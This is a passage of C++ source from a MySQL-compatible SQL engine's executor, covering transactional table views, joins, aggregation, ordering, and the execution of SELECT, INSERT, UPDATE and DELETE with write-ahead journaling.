Value eval_with_aggregates(
    const sql::Expr& e, const NameScope& scope, const Row* sample_row,
    const std::map<const sql::Expr*, Value>& agg_values) {
  if (auto it = agg_values.find(&e); it != agg_values.end()) return it->second;
  if (e.kind == sql::ExprKind::kColumn) {
    // Non-aggregated column in an aggregate query: MySQL (pre-ONLY_FULL_
    // GROUP_BY) picks a representative row value.
    if (sample_row == nullptr) return Value::null();
    return (*sample_row)[scope.resolve(e.table, e.column)];
  }
  if (e.children.empty()) return eval_expr(e, &scope, sample_row);
  // Rebuild the node with children evaluated recursively via a shallow
  // clone holding literal results.
  sql::Expr shallow;
  shallow.kind = e.kind;
  shallow.op = e.op;
  shallow.func_name = e.func_name;
  shallow.negated = e.negated;
  shallow.table = e.table;
  shallow.column = e.column;
  shallow.literal = e.literal;
  for (const auto& c : e.children) {
    Value v = eval_with_aggregates(*c, scope, sample_row, agg_values);
    shallow.children.push_back(sql::Expr::make_literal(std::move(v), false));
  }
  return eval_expr(shallow, &scope, sample_row);
}

void collect_aggregates(const sql::Expr& e,
                        std::vector<const sql::Expr*>& out) {
  if (e.kind == sql::ExprKind::kFunc && is_aggregate_function(e.func_name)) {
    out.push_back(&e);
    return;  // no nested aggregates
  }
  for (const auto& c : e.children) collect_aggregates(*c, out);
}

std::string select_item_name(const sql::SelectItem& it) {
  if (!it.alias.empty()) return it.alias;
  if (it.expr->kind == sql::ExprKind::kColumn) return it.expr->column;
  return it.expr->to_sql();
}

ResultSet execute_select(ExecContext& ctx, const sql::SelectStmt& sel);

// ------------------------------------------------------- versioned access

std::string table_key(const Table& t) {
  return common::to_lower(t.schema().name());
}

/// One table as this statement sees it: the base table resolved at
/// ctx.snapshot_ts with the transaction's write set (if any) read through
/// — deletes hidden, updates substituted, buffered inserts appended under
/// synthetic slots >= txn::kTxnSlotBase.
class TableView {
 public:
  TableView(const ExecContext& ctx, const Table& t)
      : ctx_(ctx),
        t_(t),
        w_(ctx.txn != nullptr ? ctx.txn->find_writes(table_key(t)) : nullptr) {}

  const txn::TableWrites* overlay() const { return w_; }

  void scan(const std::function<bool(size_t, const Row&)>& fn) const {
    if (!ctx_.versioned) {
      t_.scan(fn);
      return;
    }
    bool stopped = false;
    t_.scan_snapshot(ctx_.snapshot_ts, [&](size_t slot, const Row& r) {
      if (w_ != nullptr) {
        if (w_->deletes.count(slot) != 0) return true;
        if (auto it = w_->updates.find(slot); it != w_->updates.end()) {
          if (!fn(slot, it->second)) {
            stopped = true;
            return false;
          }
          return true;
        }
      }
      if (!fn(slot, r)) {
        stopped = true;
        return false;
      }
      return true;
    });
    if (stopped || w_ == nullptr) return;
    for (size_t i = 0; i < w_->inserts.size(); ++i) {
      if (!w_->inserts[i]) continue;
      if (!fn(txn::kTxnSlotBase + i, *w_->inserts[i])) return;
    }
  }

  /// True when the statement's transaction has buffered writes against
  /// this table — index paths must degrade to a scan (the overlay's
  /// inserts/updates/deletes are invisible to the table's indexes).
  bool overlay_active() const { return w_ != nullptr && !w_->empty(); }

  /// Index-assisted equality candidates, or nullopt when only a full scan
  /// answers correctly (write-set overlay present, or a pure PK probe
  /// into version history the PK hash doesn't cover). Extra candidates
  /// are fine — the caller re-evaluates WHERE on each.
  std::optional<std::vector<std::pair<size_t, Row>>> index_candidates(
      std::string_view column, const sql::Value& key) const {
    if (overlay_active()) return std::nullopt;
    return t_.index_eq_snapshot(column, key, ctx_.snapshot_ts);
  }

  /// Stream candidate rows for `plan`. Point and range paths yield a
  /// superset of the WHERE matches (callers re-evaluate); a scan plan, an
  /// active overlay, or a declined PK probe degrades to scan(). Returns
  /// true iff rows were streamed in the plan's index order (callers may
  /// then skip sorting). Legacy-plane statements read the same snapshot
  /// APIs at snapshot_ts == txn::kTsMax, where every live row is visible.
  bool scan_plan(const AccessPlan& plan,
                 const std::function<bool(size_t, const Row&)>& fn) const {
    using Kind = AccessPlan::Kind;
    if (plan.kind == Kind::kFullScan || overlay_active()) {
      scan(fn);
      return false;
    }
    if (plan.kind == Kind::kPkPoint || plan.kind == Kind::kIndexPoint) {
      auto candidates = index_candidates(plan.column, *plan.eq_value);
      if (!candidates) {
        scan(fn);
        return false;
      }
      for (auto& [slot, row] : *candidates) {
        if (!fn(slot, row)) break;
      }
      return false;  // point streams carry no meaningful order
    }
    t_.index_range_snapshot(
        plan.column, plan.lo, plan.lo_inclusive, plan.hi, plan.hi_inclusive,
        plan.desc,
        /*include_nulls=*/plan.kind == Kind::kIndexOrder, ctx_.snapshot_ts,
        fn);
    return true;
  }

  /// The image of a slot as the statement sees it (overlay-aware).
  std::optional<Row> fetch(size_t slot) const {
    if (w_ != nullptr) {
      if (slot >= txn::kTxnSlotBase) {
        size_t i = slot - txn::kTxnSlotBase;
        if (i < w_->inserts.size() && w_->inserts[i]) return *w_->inserts[i];
        return std::nullopt;
      }
      if (w_->deletes.count(slot) != 0) return std::nullopt;
      if (auto it = w_->updates.find(slot); it != w_->updates.end()) {
        return it->second;
      }
    }
    return t_.fetch_snapshot(slot, ctx_.snapshot_ts);
  }

 private:
  const ExecContext& ctx_;
  const Table& t_;
  const txn::TableWrites* w_;
};

/// True when some row visible to the view (excluding `exclude_slot`) has
/// this primary-key value. `pk_repr` is the coerced value's repr — the
/// same identity insert() uses.
bool view_pk_exists(const TableView& view, size_t pk_col,
                    const std::string& pk_repr, size_t exclude_slot) {
  bool found = false;
  view.scan([&](size_t slot, const Row& r) {
    if (slot != exclude_slot && r[pk_col].repr() == pk_repr) {
      found = true;
      return false;
    }
    return true;
  });
  return found;
}

/// Coercion + NOT NULL enforcement for a buffered (transactional) row
/// image — the checks Table::insert/update would run at apply time,
/// surfaced at statement time so the session gets the error where MySQL
/// would raise it.
void finalize_txn_image(const Table& t, Row& row) {
  const storage::TableSchema& schema = t.schema();
  if (row.size() != schema.column_count()) {
    throw DbError(ErrorCode::kConstraint,
                  "column count mismatch for table '" + schema.name() + "'");
  }
  for (size_t i = 0; i < row.size(); ++i) {
    row[i] = schema.coerce_to_column(i, row[i]);
  }
  for (size_t i = 0; i < schema.column_count(); ++i) {
    if (schema.column(i).not_null && row[i].is_null()) {
      throw DbError(ErrorCode::kConstraint, "column '" +
                                                schema.column(i).name +
                                                "' cannot be NULL");
    }
  }
}

/// Produce the cross/joined row set of FROM + JOINs with ON filtering.
/// Single-table join-free SELECTs don't come here — execute_select plans
/// an access path and streams the table directly.
std::vector<Row> materialize_joined_rows(ExecContext& ctx,
                                         const sql::SelectStmt& sel,
                                         const NameScope& scope) {
  storage::Catalog& catalog = ctx.catalog;
  std::vector<Row> rows;
  if (sel.from.empty()) {
    rows.emplace_back();  // one empty row for table-less SELECT
    return rows;
  }
  // Seed with first table. Tables are scanned strictly one at a time
  // (each scan's prefixes are fully materialized before the next table is
  // touched), so at most one table lock is ever held — no ordering issues.
  std::vector<const Table*> tables;
  for (const auto& ref : sel.from) tables.push_back(&catalog.require(ref.name));
  for (const auto& j : sel.joins) tables.push_back(&catalog.require(j.table.name));

  rows.emplace_back();  // start with a single empty prefix
  size_t n_from = sel.from.size();
  for (size_t ti = 0; ti < tables.size(); ++ti) {
    std::vector<Row> next;
    TableView view(ctx, *tables[ti]);
    bool is_left_join =
        ti >= n_from && sel.joins[ti - n_from].kind == sql::Join::Kind::kLeft;
    const sql::Expr* on =
        ti >= n_from ? sel.joins[ti - n_from].on.get() : nullptr;
    for (const auto& prefix : rows) {
      bool matched = false;
      view.scan([&](size_t, const Row& r) {
        Row combined = prefix;
        combined.insert(combined.end(), r.begin(), r.end());
        if (on != nullptr) {
          // Pad to full width so resolve() of later tables doesn't read
          // out of range (ON can only mention tables joined so far).
          Row padded = combined;
          padded.resize(scope.width());
          Value ok = eval_expr(*on, &scope, &padded);
          if (ok.is_null() || !ok.truthy()) return true;
        }
        matched = true;
        next.push_back(std::move(combined));
        return true;
      });
      if (is_left_join && !matched) {
        Row combined = prefix;
        combined.resize(combined.size() + tables[ti]->schema().column_count());
        next.push_back(std::move(combined));
      }
    }
    rows = std::move(next);
  }
  for (auto& r : rows) r.resize(scope.width());
  return rows;
}

ResultSet project_aggregate(const sql::SelectStmt& sel, const NameScope& scope,
                            const std::vector<Row>& rows) {
  ResultSet out;
  for (const auto& it : sel.items) {
    if (it.star) {
      throw DbError(ErrorCode::kUnsupported, "SELECT * with aggregates");
    }
    out.columns.push_back(select_item_name(it));
  }

  // Group rows by GROUP BY key (single group when none).
  std::map<std::string, std::vector<const Row*>> groups;
  for (const auto& r : rows) {
    std::string key;
    for (const auto& g : sel.group_by) {
      key += eval_expr(*g, &scope, &r).repr();
      key += '\x1f';
    }
    groups[key].push_back(&r);
  }
  if (groups.empty() && sel.group_by.empty()) {
    groups[""] = {};  // aggregates over an empty set still yield one row
  }

  std::vector<const sql::Expr*> agg_nodes;
  for (const auto& it : sel.items) collect_aggregates(*it.expr, agg_nodes);
  if (sel.having) collect_aggregates(*sel.having, agg_nodes);

  for (const auto& [key, members] : groups) {
    std::map<const sql::Expr*, Value> agg_values;
    for (const sql::Expr* node : agg_nodes) {
      Aggregator agg;
      agg.func = node->func_name;
      if (!(node->children.size() == 1 &&
            node->children[0]->kind == sql::ExprKind::kColumn &&
            node->children[0]->column == "*")) {
        if (node->children.size() != 1) {
          throw DbError(ErrorCode::kSyntax,
                        agg.func + "() expects one argument");
        }
        agg.arg = node->children[0].get();
      }
      for (const Row* r : members) agg.feed(scope, *r);
      agg_values[node] = agg.result();
    }
    const Row* sample = members.empty() ? nullptr : members.front();
    if (sel.having) {
      Value h = eval_with_aggregates(*sel.having, scope, sample, agg_values);
      if (h.is_null() || !h.truthy()) continue;
    }
    Row out_row;
    for (const auto& it : sel.items) {
      out_row.push_back(
          eval_with_aggregates(*it.expr, scope, sample, agg_values));
    }
    out.rows.push_back(std::move(out_row));
  }
  return out;
}

ResultSet project_plain(const sql::SelectStmt& sel, const NameScope& scope,
                        const std::vector<Row>& rows) {
  ResultSet out;
  struct Projector {
    bool star = false;
    const sql::Expr* expr = nullptr;
  };
  std::vector<Projector> projectors;
  for (const auto& it : sel.items) {
    if (it.star) {
      for (const auto& entry : scope.entries()) {
        for (size_t c = 0; c < entry.schema->column_count(); ++c) {
          out.columns.push_back(entry.schema->column(c).name);
        }
      }
      projectors.push_back({true, nullptr});
    } else {
      out.columns.push_back(select_item_name(it));
      projectors.push_back({false, it.expr.get()});
    }
  }
  for (const auto& r : rows) {
    Row out_row;
    for (const auto& p : projectors) {
      if (p.star) {
        out_row.insert(out_row.end(), r.begin(), r.end());
      } else {
        out_row.push_back(eval_expr(*p.expr, &scope, &r));
      }
    }
    out.rows.push_back(std::move(out_row));
  }
  if (sel.distinct) {
    std::set<std::string> seen;
    std::vector<Row> unique;
    for (auto& r : out.rows) {
      std::string key;
      for (const auto& v : r) {
        key += v.repr();
        key += '\x1f';
      }
      if (seen.insert(key).second) unique.push_back(std::move(r));
    }
    out.rows = std::move(unique);
  }
  return out;
}

void order_result(const sql::SelectStmt& sel, const NameScope& scope,
                  const std::vector<Row>& source_rows, ResultSet& out) {
  if (sel.order_by.empty()) return;
  // Compute sort keys. Keys may reference select aliases (by output column)
  // or scope columns (by source row). source_rows and out.rows are aligned
  // only for non-aggregate, non-distinct queries; otherwise sort on output
  // columns / constants only.
  bool aligned = source_rows.size() == out.rows.size();
  struct Keyed {
    Row row;
    std::vector<Value> keys;
  };
  std::vector<Keyed> keyed;
  keyed.reserve(out.rows.size());
  for (size_t i = 0; i < out.rows.size(); ++i) {
    Keyed k;
    k.row = out.rows[i];
    for (const auto& ob : sel.order_by) {
      // Alias or positional output column?
      if (ob.expr->kind == sql::ExprKind::kColumn && ob.expr->table.empty()) {
        int out_idx = -1;
        for (size_t c = 0; c < out.columns.size(); ++c) {
          if (common::iequals(out.columns[c], ob.expr->column)) {
            out_idx = static_cast<int>(c);
            break;
          }
        }
        if (out_idx >= 0) {
          k.keys.push_back(k.row[static_cast<size_t>(out_idx)]);
          continue;
        }
      }
      if (ob.expr->kind == sql::ExprKind::kLiteral &&
          ob.expr->literal.type() == ValueType::kInt) {
        int64_t pos = ob.expr->literal.as_int();  // ORDER BY 2
        if (pos >= 1 && static_cast<size_t>(pos) <= k.row.size()) {
          k.keys.push_back(k.row[static_cast<size_t>(pos - 1)]);
          continue;
        }
      }
      if (aligned) {
        k.keys.push_back(eval_expr(*ob.expr, &scope, &source_rows[i]));
      } else {
        k.keys.push_back(Value::null());
      }
    }
    keyed.push_back(std::move(k));
  }
  std::stable_sort(keyed.begin(), keyed.end(),
                   [&](const Keyed& a, const Keyed& b) {
                     for (size_t i = 0; i < sel.order_by.size(); ++i) {
                       const Value& va = a.keys[i];
                       const Value& vb = b.keys[i];
                       int cmp;
                       if (va.is_null() && vb.is_null()) {
                         cmp = 0;
                       } else if (va.is_null()) {
                         cmp = -1;  // NULLs first, like MySQL ASC
                       } else if (vb.is_null()) {
                         cmp = 1;
                       } else {
                         cmp = va.compare(vb);
                       }
                       if (sel.order_by[i].desc) cmp = -cmp;
                       if (cmp != 0) return cmp < 0;
                     }
                     return false;
                   });
  out.rows.clear();
  for (auto& k : keyed) out.rows.push_back(std::move(k.row));
}

bool contains_subquery(const sql::Expr& e) {
  if (e.subquery) return true;
  for (const auto& c : e.children) {
    if (contains_subquery(*c)) return true;
  }
  return false;
}

/// Replace every uncorrelated IN-subquery by the literal list of its first
/// column's values (executed once, up front — MySQL's materialization
/// strategy for uncorrelated subqueries).
void materialize_subqueries(sql::Expr& e, ExecContext& ctx) {
  if (e.subquery) {
    ResultSet sub = execute_select(ctx, *e.subquery);
    if (sub.columns.size() != 1) {
      throw DbError(ErrorCode::kSyntax,
                    "IN subquery must return exactly one column");
    }
    for (auto& row : sub.rows) {
      e.children.push_back(sql::Expr::make_literal(std::move(row[0]), false));
    }
    e.subquery.reset();
  }
  for (auto& c : e.children) materialize_subqueries(*c, ctx);
}

ResultSet execute_select(ExecContext& ctx, const sql::SelectStmt& sel) {
  NameScope scope = build_select_scope(ctx.catalog, sel);

  // IN-subqueries in WHERE are materialized into a private copy up front
  // (they are uncorrelated, so once per statement is exact).
  const sql::Expr* where = sel.where.get();
  sql::ExprPtr materialized;
  if (where != nullptr && contains_subquery(*where)) {
    materialized = sel.where->clone();
    materialize_subqueries(*materialized, ctx);
    where = materialized.get();
  }

  std::vector<Row> rows;
  bool where_applied = false;
  bool order_applied = false;
  if (sel.from.size() == 1 && sel.joins.empty()) {
    // Single table: plan an access path and stream it, evaluating WHERE
    // inline (point/range candidates are supersets; WHERE decides).
    const Table& t = ctx.catalog.require(sel.from[0].name);
    AccessPlan plan = plan_select_access(t, sel);
    TableView view(ctx, t);
    // Stopping early at offset+limit matches is only sound when the rows
    // already arrive in final order. Without ORDER BY any order is final.
    // With ORDER BY the planner only pushes the limit alongside order
    // pushdown, which survives unless the stream degrades to a scan — and
    // range/order streams degrade only under a write-set overlay.
    const size_t needed =
        plan.limit_pushdown && (sel.order_by.empty() || !view.overlay_active())
            ? plan.stop_after
            : SIZE_MAX;
    bool ordered = false;
    if (needed > 0) {
      ordered = view.scan_plan(plan, [&](size_t, const Row& r) {
        Row padded = r;
        padded.resize(scope.width());
        if (where != nullptr) {
          Value v = eval_expr(*where, &scope, &padded);
          if (v.is_null() || !v.truthy()) return true;
        }
        rows.push_back(std::move(padded));
        return rows.size() < needed;
      });
    }
    where_applied = true;
    order_applied = plan.order_pushdown && ordered;
  } else {
    rows = materialize_joined_rows(ctx, sel, scope);
  }

  // WHERE filter for the joined/table-less paths.
  if (!where_applied && where != nullptr) {
    std::vector<Row> kept;
    kept.reserve(rows.size());
    for (auto& r : rows) {
      Value v = eval_expr(*where, &scope, &r);
      if (!v.is_null() && v.truthy()) kept.push_back(std::move(r));
    }
    rows = std::move(kept);
  }

  bool has_agg = !sel.group_by.empty();
  for (const auto& it : sel.items) {
    if (!it.star && contains_aggregate(*it.expr)) has_agg = true;
  }
  if (sel.having && !has_agg) {
    throw DbError(ErrorCode::kSyntax, "HAVING requires aggregation");
  }

  ResultSet out = has_agg ? project_aggregate(sel, scope, rows)
                          : project_plain(sel, scope, rows);
  if (!order_applied) order_result(sel, scope, rows, out);

  // LIMIT/OFFSET.
  if (sel.offset) {
    size_t off = static_cast<size_t>(std::max<int64_t>(0, *sel.offset));
    if (off >= out.rows.size()) {
      out.rows.clear();
    } else {
      out.rows.erase(out.rows.begin(),
                     out.rows.begin() + static_cast<ptrdiff_t>(off));
    }
  }
  if (sel.limit && out.rows.size() > static_cast<size_t>(*sel.limit)) {
    out.rows.resize(static_cast<size_t>(std::max<int64_t>(0, *sel.limit)));
  }

  // UNION arms.
  for (const auto& u : sel.unions) {
    ResultSet arm = execute_select(ctx, *u.select);
    if (arm.columns.size() != out.columns.size()) {
      throw DbError(ErrorCode::kSyntax,
                    "UNION arms have different column counts");
    }
    for (auto& r : arm.rows) out.rows.push_back(std::move(r));
    if (!u.all) {
      std::set<std::string> seen;
      std::vector<Row> unique;
      for (auto& r : out.rows) {
        std::string key;
        for (const auto& v : r) {
          key += v.repr();
          key += '\x1f';
        }
        if (seen.insert(key).second) unique.push_back(std::move(r));
      }
      out.rows = std::move(unique);
    }
  }
  return out;
}

// ------------------------------------------------------------- DML / DDL

/// Buffer one insert row into the transaction's write set: coercion,
/// auto-increment reservation (ids burn on rollback, like MySQL), NOT NULL
/// and duplicate-PK checks against the statement's view. The duplicate
/// check re-runs against the latest state at COMMIT apply.
void buffer_txn_insert(ExecContext& ctx, Table& table, Row row) {
  const storage::TableSchema& schema = table.schema();
  finalize_txn_image(table, row);
  int pk = schema.primary_key_index();
  sql::Value pk_value;
  if (pk >= 0) {
    auto pi = static_cast<size_t>(pk);
    if (row[pi].is_null() && schema.column(pi).auto_increment) {
      row[pi] = schema.coerce_to_column(
          pi, sql::Value(table.reserve_auto_increment()));
    }
    if (row[pi].is_null()) {
      throw DbError(ErrorCode::kConstraint, "primary key cannot be NULL");
    }
    TableView view(ctx, table);
    if (view_pk_exists(view, pi, row[pi].repr(), txn::kTxnSlotBase - 1)) {
      throw DbError(ErrorCode::kConstraint,
                    "duplicate primary key " + row[pi].to_display() +
                        " in table '" + schema.name() + "'");
    }
    pk_value = row[pi];
    if (schema.column(pi).type == storage::ColumnType::kInt) {
      // Keep the shared counter ahead of explicit keys, as insert() does.
      table.maybe_advance_auto_increment(row[pi].coerce_int());
    }
  }
  ctx.txn->writes_for(table_key(table)).inserts.push_back(std::move(row));
  if (!pk_value.is_null() && pk_value.type() == ValueType::kInt) {
    ctx.session.set_last_insert_id(pk_value.as_int());
  }
}

ResultSet execute_insert(ExecContext& ctx, const sql::InsertStmt& ins) {
  Table& table = ctx.catalog.require(ins.table);
  const storage::TableSchema& schema = table.schema();
  Session& session = ctx.session;

  // Map the written columns to schema positions.
  std::vector<size_t> positions;
  if (ins.columns.empty()) {
    for (size_t i = 0; i < schema.column_count(); ++i) positions.push_back(i);
  } else {
    for (const auto& c : ins.columns) {
      int idx = schema.column_index(c);
      if (idx < 0) {
        throw DbError(ErrorCode::kUnknownColumn,
                      "unknown column '" + c + "' in field list");
      }
      positions.push_back(static_cast<size_t>(idx));
    }
  }

  ResultSet out;
  for (const auto& row_exprs : ins.rows) {
    if (row_exprs.size() != positions.size()) {
      throw DbError(ErrorCode::kConstraint,
                    "column count doesn't match value count");
    }
    Row row(schema.column_count(), Value::null());
    std::vector<bool> provided(schema.column_count(), false);
    for (size_t i = 0; i < positions.size(); ++i) {
      row[positions[i]] = eval_expr(*row_exprs[i], nullptr, nullptr);
      provided[positions[i]] = true;
    }
    for (size_t i = 0; i < schema.column_count(); ++i) {
      if (!provided[i] && schema.column(i).default_value) {
        row[i] = *schema.column(i).default_value;
      }
    }
    if (ctx.txn != nullptr) {
      buffer_txn_insert(ctx, table, std::move(row));
    } else {
      try {
        Row logged;
        if (ctx.journal != nullptr) logged = row;  // image before the move
        auto res = ctx.versioned
                       ? table.insert_versioned(std::move(row), ctx.write_ts)
                       : table.insert(std::move(row));
        if (ctx.journal != nullptr) {
          // Replay can't reproduce auto-increment reservations burned by
          // rolled-back transactions, so the logged image carries the
          // resolved PK instead of the NULL placeholder.
          int pk = schema.primary_key_index();
          if (pk >= 0 && !res.pk_value.is_null()) {
            logged[static_cast<size_t>(pk)] = res.pk_value;
          }
          ctx.journal->push_back(storage::wal::RedoOp::insert(
              table_key(table), res.slot, std::move(logged)));
        }
        if (!res.pk_value.is_null() &&
            res.pk_value.type() == ValueType::kInt) {
          session.set_last_insert_id(res.pk_value.as_int());
        }
      } catch (const storage::StorageError& e) {
        throw DbError(ErrorCode::kConstraint, e.what());
      }
    }
    ++out.affected_rows;
  }
  out.last_insert_id = session.last_insert_id();
  return out;
}

ResultSet execute_update(ExecContext& ctx, const sql::UpdateStmt& up) {
  Table& table = ctx.catalog.require(up.table);
  NameScope scope;
  scope.add(up.table, &table.schema(), 0);

  std::vector<std::pair<size_t, const sql::Expr*>> targets;
  for (const auto& a : up.assignments) {
    int idx = table.schema().column_index(a.column);
    if (idx < 0) {
      throw DbError(ErrorCode::kUnknownColumn,
                    "unknown column '" + a.column + "'");
    }
    targets.emplace_back(static_cast<size_t>(idx), a.value.get());
  }

  TableView view(ctx, table);
  // Collect targets first (with their images: the view's rows are copies
  // valid only during the scan callback), then mutate. The planner may
  // stream candidates from an index; WHERE still decides per row.
  AccessPlan plan = plan_where_access(table, up.where.get());
  std::vector<std::pair<size_t, Row>> matched;
  view.scan_plan(plan, [&](size_t slot, const Row& row) {
    if (up.where) {
      Value v = eval_expr(*up.where, &scope, &row);
      if (v.is_null() || !v.truthy()) return true;
    }
    matched.emplace_back(slot, row);
    return !(up.limit && matched.size() >= static_cast<size_t>(*up.limit));
  });

  ResultSet out;
  int pk = table.schema().primary_key_index();
  for (auto& [slot, image] : matched) {
    std::vector<std::pair<size_t, Value>> changes;
    for (const auto& [col, expr] : targets) {
      changes.emplace_back(col, eval_expr(*expr, &scope, &image));
    }
    if (ctx.txn != nullptr) {
      Row candidate = image;
      for (auto& [col, v] : changes) candidate[col] = std::move(v);
      finalize_txn_image(table, candidate);
      if (pk >= 0) {
        auto pi = static_cast<size_t>(pk);
        if (candidate[pi].repr() != image[pi].repr() &&
            view_pk_exists(view, pi, candidate[pi].repr(), slot)) {
          throw DbError(ErrorCode::kConstraint,
                        "duplicate primary key on update in '" +
                            table.schema().name() + "'");
        }
      }
      txn::TableWrites& w = ctx.txn->writes_for(table_key(table));
      if (slot >= txn::kTxnSlotBase) {
        w.inserts[slot - txn::kTxnSlotBase] = std::move(candidate);
      } else {
        w.updates[slot] = std::move(candidate);
      }
    } else {
      try {
        if (ctx.versioned) {
          table.update_versioned(slot, changes, ctx.write_ts);
        } else {
          table.update(slot, changes);
        }
        if (ctx.journal != nullptr) {
          ctx.journal->push_back(
              storage::wal::RedoOp::update(table_key(table), slot, changes));
        }
      } catch (const storage::StorageError& e) {
        throw DbError(ErrorCode::kConstraint, e.what());
      }
    }
    ++out.affected_rows;
  }
  return out;
}

ResultSet execute_delete(ExecContext& ctx, const sql::DeleteStmt& del) {
  Table& table = ctx.catalog.require(del.table);
  NameScope scope;
  scope.add(del.table, &table.schema(), 0);

  TableView view(ctx, table);
  AccessPlan plan = plan_where_access(table, del.where.get());
  std::vector<size_t> slots;
  view.scan_plan(plan, [&](size_t slot, const Row& row) {
    if (del.where) {
      Value v = eval_expr(*del.where, &scope, &row);
      if (v.is_null() || !v.truthy()) return true;
    }
    slots.push_back(slot);
    return !(del.limit && slots.size() >= static_cast<size_t>(*del.limit));
  });
  ResultSet out;
  for (size_t slot : slots) {
    if (ctx.txn != nullptr) {
      txn::TableWrites& w = ctx.txn->writes_for(table_key(table));
      if (slot >= txn::kTxnSlotBase) {
        w.inserts[slot - txn::kTxnSlotBase] = std::nullopt;
      } else {
        w.updates.erase(slot);
        w.deletes.insert(slot);
      }
    } else if (ctx.versioned) {
      table.erase_versioned(slot, ctx.write_ts);
      if (ctx.journal != nullptr) {
        ctx.journal->push_back(
            storage::wal::RedoOp::erase(table_key(table), slot));
      }
    } else {
      table.erase(slot);
    }
    ++out.affected_rows;
  }
  return out;
}

}  // namespace

void validate_statement(const storage::Catalog& catalog,
                        const sql::Statement& stmt) {
  switch (sql::statement_kind(stmt)) {
    case sql::StatementKind::kSelect:
      validate_select(catalog, *std::get<sql::SelectPtr>(stmt));
      break;
    case sql::StatementKind::kInsert: {
      const auto& ins = std::get<sql::InsertStmt>(stmt);
      const Table* t = catalog.find(ins.table);
      if (t == nullptr) {
        throw DbError(ErrorCode::kUnknownTable,
                      "table '" + ins.table + "' doesn't exist");
      }
      for (const auto& c : ins.columns) {
        if (t->schema().column_index(c) < 0) {
          throw DbError(ErrorCode::kUnknownColumn,
                        "unknown column '" + c + "' in field list");
        }
      }
      break;
    }
    case sql::StatementKind::kUpdate: {
      const auto& up = std::get<sql::UpdateStmt>(stmt);
      const Table* t = catalog.find(up.table);
      if (t == nullptr) {
        throw DbError(ErrorCode::kUnknownTable,
                      "table '" + up.table + "' doesn't exist");
      }
      NameScope scope;
      scope.add(up.table, &t->schema(), 0);
      for (const auto& a : up.assignments) {
        if (t->schema().column_index(a.column) < 0) {
          throw DbError(ErrorCode::kUnknownColumn,
                        "unknown column '" + a.column + "'");
        }
        validate_expr_names_in(*a.value, scope, catalog);
      }
      if (up.where) validate_expr_names_in(*up.where, scope, catalog);
      break;
    }
    case sql::StatementKind::kDelete: {
      const auto& del = std::get<sql::DeleteStmt>(stmt);
      const Table* t = catalog.find(del.table);
      if (t == nullptr) {
        throw DbError(ErrorCode::kUnknownTable,
                      "table '" + del.table + "' doesn't exist");
      }
      if (del.where) {
        NameScope scope;
        scope.add(del.table, &t->schema(), 0);
        validate_expr_names_in(*del.where, scope, catalog);
      }
      break;
    }
    case sql::StatementKind::kCreate:
    case sql::StatementKind::kDrop:
    case sql::StatementKind::kShowTables:
      break;  // existence checked at execution (IF EXISTS semantics)
    case sql::StatementKind::kDescribe: {
      const auto& d = std::get<sql::DescribeStmt>(stmt);
      if (catalog.find(d.table) == nullptr) {
        throw DbError(ErrorCode::kUnknownTable,
                      "table '" + d.table + "' doesn't exist");
      }
      break;
    }
    case sql::StatementKind::kTruncate: {
      const auto& t = std::get<sql::TruncateStmt>(stmt);
      if (catalog.find(t.table) == nullptr) {
        throw DbError(ErrorCode::kUnknownTable,
                      "table '" + t.table + "' doesn't exist");
      }
      break;
    }
    case sql::StatementKind::kCreateIndex: {
      const auto& ci = std::get<sql::CreateIndexStmt>(stmt);
      const Table* t = catalog.find(ci.table);
      if (t == nullptr) {
        throw DbError(ErrorCode::kUnknownTable,
                      "table '" + ci.table + "' doesn't exist");
      }
      if (t->schema().column_index(ci.column) < 0) {
        throw DbError(ErrorCode::kUnknownColumn,
                      "unknown column '" + ci.column + "'");
      }
      break;
    }
    case sql::StatementKind::kDropIndex: {
      const auto& di = std::get<sql::DropIndexStmt>(stmt);
      if (catalog.find(di.table) == nullptr) {
        throw DbError(ErrorCode::kUnknownTable,
                      "table '" + di.table + "' doesn't exist");
      }
      break;
    }
    case sql::StatementKind::kTransaction:
      break;  // no names to validate
    case sql::StatementKind::kExplain:
      validate_select(catalog, *std::get<sql::ExplainStmt>(stmt).select);
      break;
  }
}

ResultSet execute_statement(ExecContext& ctx, const sql::Statement& stmt) {
  storage::Catalog& catalog = ctx.catalog;
  switch (sql::statement_kind(stmt)) {
    case sql::StatementKind::kSelect:
      return execute_select(ctx, *std::get<sql::SelectPtr>(stmt));
    case sql::StatementKind::kInsert:
      return execute_insert(ctx, std::get<sql::InsertStmt>(stmt));
    case sql::StatementKind::kUpdate:
      return execute_update(ctx, std::get<sql::UpdateStmt>(stmt));
    case sql::StatementKind::kDelete:
      return execute_delete(ctx, std::get<sql::DeleteStmt>(stmt));
    case sql::StatementKind::kCreate: {
      const auto& ct = std::get<sql::CreateTableStmt>(stmt);
      try {
        catalog.create_table(storage::TableSchema::from_ast(ct),
                             ct.if_not_exists);
      } catch (const storage::StorageError& e) {
        throw DbError(ErrorCode::kConstraint, e.what());
      }
      return {};
    }
    case sql::StatementKind::kDrop: {
      const auto& d = std::get<sql::DropTableStmt>(stmt);
      try {
        catalog.drop_table(d.table, d.if_exists);
      } catch (const storage::StorageError& e) {
        throw DbError(ErrorCode::kUnknownTable, e.what());
      }
      return {};
    }
    case sql::StatementKind::kShowTables: {
      ResultSet out;
      out.columns = {"Tables"};
      for (const auto& name : catalog.table_names()) {
        out.rows.push_back({Value(name)});
      }
      return out;
    }
    case sql::StatementKind::kDescribe: {
      const auto& d = std::get<sql::DescribeStmt>(stmt);
      const Table& table = catalog.require(d.table);
      ResultSet out;
      out.columns = {"Field", "Type", "Null", "Key", "Default", "Extra"};
      for (const auto& col : table.schema().columns()) {
        Row row;
        row.push_back(Value(col.name));
        row.push_back(Value(std::string(storage::column_type_name(col.type))));
        row.push_back(Value(std::string(col.not_null ? "NO" : "YES")));
        row.push_back(Value(std::string(col.primary_key ? "PRI" : "")));
        row.push_back(col.default_value ? *col.default_value : Value::null());
        row.push_back(
            Value(std::string(col.auto_increment ? "auto_increment" : "")));
        out.rows.push_back(std::move(row));
      }
      return out;
    }
    case sql::StatementKind::kCreateIndex: {
      const auto& ci = std::get<sql::CreateIndexStmt>(stmt);
      try {
        catalog.require(ci.table).create_index(ci.index_name, ci.column);
      } catch (const storage::StorageError& e) {
        throw DbError(ErrorCode::kConstraint, e.what());
      }
      return {};
    }
    case sql::StatementKind::kDropIndex: {
      const auto& di = std::get<sql::DropIndexStmt>(stmt);
      try {
        catalog.require(di.table).drop_index(di.index_name);
      } catch (const storage::StorageError& e) {
        throw DbError(ErrorCode::kConstraint, e.what());
      }
      return {};
    }
